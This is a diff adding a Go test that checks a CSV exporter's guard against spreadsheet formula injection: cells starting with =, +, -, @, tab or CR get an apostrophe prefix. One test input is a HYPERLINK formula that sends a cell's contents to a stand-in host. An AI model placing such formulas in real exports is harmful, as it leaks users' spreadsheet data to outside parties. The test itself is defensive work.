@@ -293,3 +293,49 @@ func TestCSVSpansOmissionsAndMisuse(t *testing.T) {
 		t.Errorf("not found: exit %d %q %q", nf.code, nf.stdout, nf.stderr)
 	}
 }
+
+// TestCSVFormulaGuard: string cells a spreadsheet would take for a formula
+// (=, +, -, @, tab, CR first) are prefixed with an apostrophe, and standard
+// error counts them; a cell with such a character later, a negative number
+// and the JSON output are unchanged.
+func TestCSVFormulaGuard(t *testing.T) {
+	cells := []string{`=HYPERLINK("http://x.test/?"&amp;A1)`, "+1 555 0100", "-2+3", "@SUM(A1)", "a=b", "plain", "-"}
+	page := "<table>"
+	for _, c := range cells {
+		page += "<tr><td>" + c + "</td><td>-5</td></tr>"
+	}
+	page = writeTemp(t, "f.html", page+"</table>")
+	args := []string{"extract", "--kind", "table", "--field", "s:0:string", "--field", "n:1:integer", page}
+	r := runCmd(t, "", append(append([]string{}, args...), "--format", "csv")...)
+	if r.code != exitOK {
+		t.Fatalf("exit %d %s", r.code, r.stderr)
+	}
+	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{`'=HYPERLINK("http://x.test/?"&A1)`, "'+1 555 0100", "'-2+3", "'@SUM(A1)", "a=b", "plain", "'-"}
+	if len(recs) != len(want)+1 {
+		t.Fatalf("%d records: %q", len(recs), r.stdout)
+	}
+	for i, w := range want {
+		if recs[i+1][0] != w || recs[i+1][1] != "-5" {
+			t.Errorf("row %d: %q, want %q and -5", i, recs[i+1], w)
+		}
+	}
+	if !strings.Contains(r.stderr, "csv: 5 cells began with =, +, -, @, a tab or a CR: prefixed with ' so a spreadsheet reads it as text") {
+		t.Errorf("stderr %q", r.stderr)
+	}
+	j := runCmd(t, "", args...)
+	if j.code != exitOK || !strings.Contains(j.stdout, `"value":"=HYPERLINK(`) || strings.Contains(j.stdout, `"'`) {
+		t.Errorf("the JSON changed: %s", j.stdout)
+	}
+	for _, c := range []struct {
+		in, out string
+		guarded bool
+	}{{"", "", false}, {"\tx", "'\tx", true}, {"\rx", "'\rx", true}, {" =x", " =x", false}, {"'=x", "'=x", false}} {
+		if out, g := guardFormula(c.in); out != c.out || g != c.guarded {
+			t.Errorf("guardFormula(%q) = %q %v", c.in, out, g)
+		}
+	}
+}
